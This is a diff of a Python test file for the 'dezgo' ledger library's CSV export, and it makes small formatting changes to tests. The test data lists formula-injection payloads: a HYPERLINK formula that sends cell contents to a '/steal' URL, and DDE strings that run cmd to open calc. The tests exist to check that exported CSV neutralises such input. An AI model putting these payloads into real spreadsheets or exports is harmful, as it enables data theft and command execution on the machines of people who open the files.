@@ -13,7 +13,7 @@ from dezgo import Charge, Dezgo, Ledger
 from dezgo.testing import Simulator
 
 HOSTILE_IDS = [
-    "=HYPERLINK(\"http://127.0.0.1/steal?\"&A1,\"open\")",
+    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -99,5 +99,6 @@ def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own():
     rows = _cells(ledger.to_csv())
     assert [row["job_id"] for row in rows] == ["x\r=1+1", "x\n=1+1", "x\r\n@SUM(1)"]
     text = ledger.to_csv()
-    assert text.startswith("operation,") and text.split("\r\n", 1)[0].count("\n") == 0
+    assert text.startswith("operation,")
+    assert text.split("\r\n", 1)[0].count("\n") == 0
     assert text.endswith("\r\n"), "rows end as RFC 4180 says"
